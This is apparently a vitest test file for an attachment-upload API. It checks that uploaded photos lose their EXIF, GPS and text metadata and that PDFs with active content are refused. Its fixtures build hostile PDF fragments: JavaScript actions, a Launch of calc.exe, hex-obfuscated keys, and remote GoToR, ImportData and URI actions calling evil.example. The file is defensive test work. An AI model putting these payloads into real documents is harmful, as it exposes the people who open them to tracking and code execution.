import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readPdf } from '../../../src/platform/files/pdf.ts'
import { type Account, account } from '../../support/accounts.ts'
import { startApp, type TestApp } from '../../support/app.ts'
import { watchLoop } from '../../support/loop.ts'
import { invalid } from '../usuarios/support.ts'
import { anexoRows, anexosAt, filePart, PDF, picture, storedFiles, uploadAnexo } from './anexos-support.ts'
import { seed } from './seed.ts'

let test: TestApp
let gestor: Account
let caso: number

beforeAll(async () => {
  test = await startApp()
  gestor = await account(test, 'gestor')
  ;[caso] = (await seed(test.db)) as [number]
})
afterAll(() => test?.close())

async function storedAs(content: Buffer): Promise<Buffer> {
  const { status, body } = await uploadAnexo(test, gestor.token, caso, [filePart(content, 'foto.jpg')])
  expect(status, JSON.stringify(body)).toBe(201)
  const { body: kept } = await test.call('GET', anexosAt(caso, `/${body.id}`), { token: gestor.token })
  expect(body.tamanho).toBe(kept.length)
  return kept
}

const CANARY = 'Canarina Zurzida'
const exif = {
  IFD0: { Artist: CANARY, ImageDescription: CANARY, Make: 'Canarina' },
  IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '8/1 7/1 11/1', GPSLongitudeRef: 'W', GPSLongitude: '34/1 54/1 5/1' }
}
const turned = () => picture().withExif(exif).withMetadata({ orientation: 6, exif })

const segment = (marker: number, text: string) => {
  const data = Buffer.from(text, 'latin1')
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([head, data])
}
/** Makes a photo like those of telephones, with segments of every kind and a second photo behind its end. */
async function photo(): Promise<Buffer> {
  const jpeg = await turned().jpeg().toBuffer()
  const texts = [
    segment(0xe1, `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${CANARY}</x:xmpmeta>`),
    segment(0xe0, `JFXX\0\x10${CANARY}`),
    segment(0xe2, `MPF\0${CANARY}`),
    segment(0xed, `Photoshop 3.0\x008BIM${CANARY}`),
    segment(0xef, CANARY),
    segment(0xfe, CANARY)
  ]
  return Buffer.concat([jpeg.subarray(0, 2), ...texts, jpeg.subarray(2), Buffer.from(`SEFT${CANARY}`), jpeg])
}

const chunk = (type: string, data: Buffer) => {
  const made = Buffer.alloc(12 + data.length)
  made.writeUInt32BE(data.length)
  made.write(type, 4, 'latin1')
  data.copy(made, 8)
  made.writeUInt32BE(crc32(made.subarray(4, 8 + data.length)), 8 + data.length)
  return made
}
async function drawing(): Promise<Buffer> {
  const png = await turned().png().toBuffer()
  const texts = [
    chunk('tEXt', Buffer.from(`Author\0${CANARY}`)),
    chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(CANARY)])),
    chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${CANARY}`)),
    chunk('tIME', Buffer.alloc(7, 1)),
    chunk('prIv', Buffer.from(CANARY))
  ]
  return Buffer.concat([png.subarray(0, 33), ...texts, png.subarray(33), Buffer.from(CANARY)])
}

describe('POST /api/v1/agravos/casos/{id}/anexos: an image is kept without its metadata', () => {
  it.each<[string, () => Promise<Buffer>, string[]]>([
    ['JPEG', photo, ['Canarina', 'Zurzida', 'Photoshop', 'xmpmeta', 'MPF', 'JFXX', 'SEFT']],
    ['PNG', drawing, ['Canarina', 'Zurzida', 'tEXt', 'zTXt', 'iTXt', 'tIME', 'prIv']]
  ])('201: %s; the pixels and the orientation stay', async (_, make, gone) => {
    const sent = await make()
    const kept = await storedAs(sent)
    for (const text of gone) {
      expect(sent.includes(text)).toBe(true)
      expect(kept.includes(text)).toBe(false)
    }
    const { orientation, exif: left } = await sharp(kept).metadata()
    expect(orientation).toBe(6)
    expect(left?.length).toBeLessThan(40)
    const pixels = (image: Buffer) => sharp(image).raw().toBuffer()
    expect(Buffer.compare(await pixels(kept), await pixels(sent))).toBe(0)
    expect(await storedAs(kept)).toEqual(kept)
  })

  it('201: the colour profile stays', async () => {
    const kept = await storedAs(await picture().withIccProfile('p3').jpeg().toBuffer())
    expect((await sharp(kept).metadata()).icc?.length).toBeGreaterThan(100)
  })

  it('422: a JPEG of very many segments, a PNG of very many chunks', async () => {
    const jpeg = await picture().jpeg().toBuffer()
    const png = await picture().png().toBuffer()
    const many = [
      Buffer.concat([jpeg.subarray(0, 2), Buffer.alloc(20_000_000, Buffer.from('fffe0002', 'hex')), jpeg.subarray(2)]),
      Buffer.concat([png.subarray(0, 33), Buffer.alloc(12 * 150_000, chunk('IDAT', Buffer.alloc(0))), png.subarray(33)])
    ]
    for (const content of many)
      expect(await uploadAnexo(test, gestor.token, caso, [filePart(content)])).toMatchObject(
        invalid(['arquivo', 'INVALID_FORMAT'])
      )
  })
})

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
    ...objects.flatMap((object) => [Buffer.from(object), Buffer.from('\n')]),
    Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n')
  ])
const stream = (keys: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`5 0 obj\n<<${keys} /Length ${data.length}>>\nstream\r\n`),
    data,
    Buffer.from('\nendstream\nendobj')
  ])
const objStm = (text: string, keys = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
  stream(keys, deflateSync(`9 0 ${text}`))
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const address = '<< /S /URI /URI (https://evil.example/seen) >>'

describe('POST /api/v1/agravos/casos/{id}/anexos: a PDF with active content', () => {
  it.each<[string, Buffer]>([
    ['HTML', pdf('<!DOCTYPE html><title>x</title>')],
    ['a script of HTML', pdf('<sCript src=x>')],
    ['HTML in a comment right at the start', Buffer.from('%PDF-1.4\n%<html><body onload=x>\n%%EOF')],
    ['a script', pdf(`2 0 obj ${script} endobj`)],
    ['a script, its name in hexadecimal digits', pdf('2 0 obj << /S /J#61v#61Script /JS (x) >> endobj')],
    ['a script in the list of names', pdf('2 0 obj << /Names << /#4aavaScript 3 0 R>> >> endobj')],
    ['a script inside of a stream without compression', pdf(stream('', Buffer.from(`7 0 obj ${script} endobj`)))],
    ['a script in a compressed stream of objects', pdf(objStm(script))],
    ['the same without a type', pdf(objStm(script, '/N 1/First 4/Filter[/Fl]'))],
    ['the same, its keys in hexadecimal digits', pdf(objStm(script, '/#4e 1/F#69rst 4/#46ilter/FlateDecode'))],
    [
      'the same behind texts and comments',
      pdf(objStm(script, '/N 1 /First 4 /X (endobj 1 0 obj \\) <<>>) %>>\n/Filter /FlateDecode'))
    ],
    [
      'the same in another compression',
      pdf(objStm('x', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]'))
    ],
    [
      'the same by a predictor',
      pdf(objStm('x', '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>'))
    ],
    [
      'a stream of objects that cannot be inflated',
      pdf(stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', Buffer.from('no')))
    ],
    ['one that is 20 MiB large', pdf(objStm(' '.repeat(20 * 1024 * 1024)))],
    ['a dictionary without an end', pdf(`2 0 obj << /X ${'['.repeat(100_000)}`)],
    ['a program', pdf('2 0 obj << /S /Launch /F (calc.exe) >> endobj')],
    ['a file', pdf('2 0 obj << /Type /EmbeddedFile >> endobj')],
    ['a file, as a specification alone', pdf('2 0 obj << /F (x) /EF << /F 3 0 R >> >> endobj')],
    ['a file, by a reference', pdf('2 0 obj << /EF 3 0 R >> endobj')],
    ['a form with scripts', pdf('2 0 obj << /AcroForm << /XFA [ 3 0 R ] >> >> endobj')],
    ['a form that is sent away', pdf('2 0 obj << /S /SubmitForm >> endobj')],
    ['data that are fetched', pdf('2 0 obj << /S /ImportData /F (//evil.example/x.fdf) >> endobj')],
    ['a program on another machine', pdf('2 0 obj << /A << /S /Launch /F (//evil.example/x) >> >> endobj')],
    ['another document', pdf('2 0 obj << /S /GoToR /F (//evil.example/x.pdf) /D [0] >> endobj')],
    ['another document, by its digits', pdf('2 0 obj << /S /GoTo#52 /F (//evil.example/x.pdf) >> endobj')],
    ['another document, compressed', pdf(objStm('<< /S /GoToR /F (//evil.example/x.pdf) >>'))],
    ['a document within one', pdf('2 0 obj << /S /GoToE /F (//evil.example/x.pdf) >> endobj')],
    ['an article elsewhere', pdf('2 0 obj << /S /Thread /F (//evil.example/x.pdf) >> endobj')],
    ['a film', pdf('2 0 obj << /Subtype /Movie /Movie << /F (http://evil.example/x) >> >> endobj')],
    ['a file at an address', pdf('2 0 obj << /X << /FS /URL /F (http://evil.example/x) >> >> endobj')],
    ['a stream from a file', pdf(stream('/F (//evil.example/x)', Buffer.from('')))],
    ['a stream from a file, by its digits', pdf(stream('/#46 << /UF (//evil.example/x) >>', Buffer.from('')))],
    ['a stream from a compressed file', pdf(stream('/FFilter /FlateDecode', Buffer.from('')))],
    ['a page of another file', pdf(stream('/Subtype /Form /Ref << /F (//evil.example/x) >>', Buffer.from('')))],
    ['a picture of a printer', pdf(stream('/Subtype /Image /OPI << /2.0 << /F (x) >> >>', Buffer.from('')))],
    ['an address at the opening', pdf(`2 0 obj << /OpenAction ${address} >> endobj`)],
    ['the same in hexadecimal digits', pdf(`2 0 obj << /Open#41ction << /S /#55RI /#55RI (x) >> >> endobj`)],
    ['the same behind a comment', pdf(`2 0 obj << /OpenAction %x\n ${address} >> endobj`)],
    ['the same by a reference', pdf('2 0 obj << /OpenAction 7 0 R >> endobj', `7 0 obj ${address} endobj`)],
    ['the same by a reference to nothing', pdf('2 0 obj << /OpenAction 7 0 R >> endobj', `8 0 obj ${address} endobj`)],
    ['the same, compressed', pdf('2 0 obj << /OpenAction 9 0 R >> endobj', objStm(address))],
    ['all of it compressed', pdf(objStm(`<< /OpenAction ${address} >>`))],
    [
      'the same after a change',
      pdf('2 0 obj << /OpenAction 7 0 R >> endobj', '7 0 obj [3 0 R /Fit] endobj', '%%EOF', `7 0 obj ${address} endobj`)
    ],
    ['the same before a change', pdf(`2 0 obj << /OpenAction ${address} >> endobj`, '2 0 obj << >> endobj')],
    [
      'the same behind a harmless action',
      pdf(`2 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${address} >> >> endobj`)
    ],
    ['an address at the turning of a page', pdf(`2 0 obj << /AA << /O ${address} >> >> endobj`)],
    ['the same by a reference to it', pdf('2 0 obj << /A#41 7 0 R >> endobj', `7 0 obj << /O ${address} >> endobj`)],
    ['the same behind a long comment', pdf(`2 0 obj << /AA %${'x'.repeat(300)}\n<< /O ${address} >> >> endobj`)]
  ])('422 ACTIVE_CONTENT: %s', async (_, content) => {
    const before = [await anexoRows(test, caso), await storedFiles(test, caso)]
    const answer = await uploadAnexo(test, gestor.token, caso, [filePart(content)])
    expect(answer).toMatchObject(invalid(['arquivo', 'ACTIVE_CONTENT']))
    expect(answer.body.error.details[0].message).toMatch(/^O PDF tem, ou pode ter, scripts/)
    expect([await anexoRows(test, caso), await storedFiles(test, caso)]).toEqual(before)
  })

  it.each<[string, Buffer]>([
    ['without anything', PDF],
    [
      'links, names that only begin so, and a form',
      pdf('2 0 obj << /A << /S /URI /URI (https://x) >> /Launchpad 1 /AcroForm << >> >> endobj')
    ],
    ['a link that is clicked on', pdf(`2 0 obj << /Subtype /Link /F 4 /A ${address} >> endobj`)],
    ['a link by a reference', pdf('2 0 obj << /Subtype /Link /A 7 0 R >> endobj', `7 0 obj ${address} endobj`)],
    ['compressed links', pdf(objStm(`<< /Annots [ << /Subtype /Link /F 4 /A ${address} >> ] >>`))],
    [
      'links, and a page at which it opens',
      pdf('2 0 obj << /OpenAction [3 0 R /FitH null] >> endobj', `3 0 obj << /A ${address} >> endobj`)
    ],
    [
      'links, and an action that goes to its first page',
      pdf(`2 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] >> /A ${address} >> endobj`)
    ],
    [
      'the same by a reference, compressed',
      pdf(
        '2 0 obj << /OpenAction 9 0 R >> endobj',
        objStm('<< /S /GoTo /D [3 0 R /Fit] >>'),
        `4 0 obj ${address} endobj`
      )
    ],
    ['actions that stay inside', pdf('2 0 obj << /AA << /O << /S /Named /N /NextPage >> >> >> endobj')],
    ['an article', pdf('2 0 obj << /Type /Thread /F 3 0 R >> endobj')],
    ['a font with a short name', pdf('2 0 obj << /Font << /F 3 0 R >> >> endobj')],
    ['the words in a text', pdf('2 0 obj << /Title (JavaScript Launch) >> endobj')],
    ['a stream of objects', pdf(objStm('<< /Type /Page /EF /None >>'))],
    [
      'a picture of random bytes',
      pdf(stream('/Subtype /Image /Filter /DCTDecode', Buffer.from('/JS ( /EF < /N /First')))
    ],
    ['a compressed page', pdf(stream('/Filter /FlateDecode', deflateSync('BT (JavaScript) Tj ET')))]
  ])('201: %s, byte for byte', async (_, content) => {
    expect(Buffer.compare(await storedAs(content), content)).toBe(0)
  })

  it('422 INVALID_FORMAT: a file that does not begin like a PDF', async () => {
    for (const before of ['\n', 'GIF89a', '\ufeff', '<html>'])
      expect(
        await uploadAnexo(test, gestor.token, caso, [filePart(Buffer.concat([Buffer.from(before), PDF]))])
      ).toMatchObject(invalid(['arquivo', 'INVALID_FORMAT']))
  })

  it('a hostile file makes nobody wait', async () => {
    const path = join(test.dataDir, 'hostil.pdf')
    const loop = watchLoop()
    for (const text of [
      '/J#61',
      '(',
      'obj<<',
      '1 0 obj<</A(',
      'obj<</N 1/First 1>>stream\n',
      '<html',
      '\\(',
      '/FS(',
      '/OpenAction<<',
      '/AA<',
      '5 0 obj[/OpenAction 5 0 R/URI '
    ]) {
      await writeFile(path, pdf(Buffer.alloc(4 * 1024 * 1024, text)))
      await readPdf(path, 20 * 1024 * 1024)
    }
    // It usually takes a tenth of that.
    expect(loop.stop()).toBeLessThan(1000)
  })
})
